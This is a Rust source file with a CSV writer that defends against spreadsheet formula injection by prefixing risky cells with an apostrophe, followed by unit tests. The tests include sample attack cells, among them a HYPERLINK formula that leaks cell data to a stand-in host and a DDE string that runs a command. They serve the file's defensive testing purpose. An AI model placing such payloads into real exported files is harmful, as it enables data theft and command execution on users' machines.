//! The one CSV writer: every CSV Summit writes (registrations, the dashboard's numbers, the
//! public agenda) goes through `write`, so every cell is spreadsheet-safe. A cell that a
//! spreadsheet would read as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage
//! return, OWASP's list) gets a leading apostrophe: spreadsheets show the text, run nothing, and
//! the text itself is kept whole.

/// A cell a spreadsheet reads as text.
pub fn safe_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    // A plain number such as `-3` is data, not a formula: it stays a number.
    let number = cell.parse::<f64>().is_ok()
        && cell
            .chars()
            .all(|c| c.is_ascii_digit() || "+-.".contains(c));
    if number {
        return cell.into();
    }
    // Leading spaces are skipped by some spreadsheets before they look for a formula.
    match cell.trim_start_matches(' ').chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// A CSV document from a header and rows (quoted as needed, every cell made safe).
pub fn write<R, C>(header: &[&str], rows: impl IntoIterator<Item = R>) -> String
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut w = csv::Writer::from_writer(Vec::new());
    let _ = w.write_record(header.iter().map(|h| safe_cell(h).into_owned()));
    for row in rows {
        let cells: Vec<String> = row
            .into_iter()
            .map(|c| safe_cell(c.as_ref()).into_owned())
            .collect();
        let _ = w.write_record(&cells);
    }
    // Writing into a Vec cannot fail, and every cell came in as UTF-8.
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_keep_every_character() {
        for evil in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
        ] {
            assert_eq!(safe_cell(evil), format!("'{evil}"));
        }
        for fine in [
            "Ana Durand",
            "2027-06-15",
            "09:00",
            "Ville de Pessac",
            "",
            "a=b",
            "-3",
            "12.5",
        ] {
            assert_eq!(safe_cell(fine), fine);
        }
    }

    #[test]
    fn the_document_quotes_and_neutralises() {
        let doc = write(
            &["name", "n"],
            [vec!["=1+1", "3"], vec!["Durand, Ana", "-"]],
        );
        assert_eq!(doc, "name,n\n'=1+1,3\n\"Durand, Ana\",'-\n");
    }
}
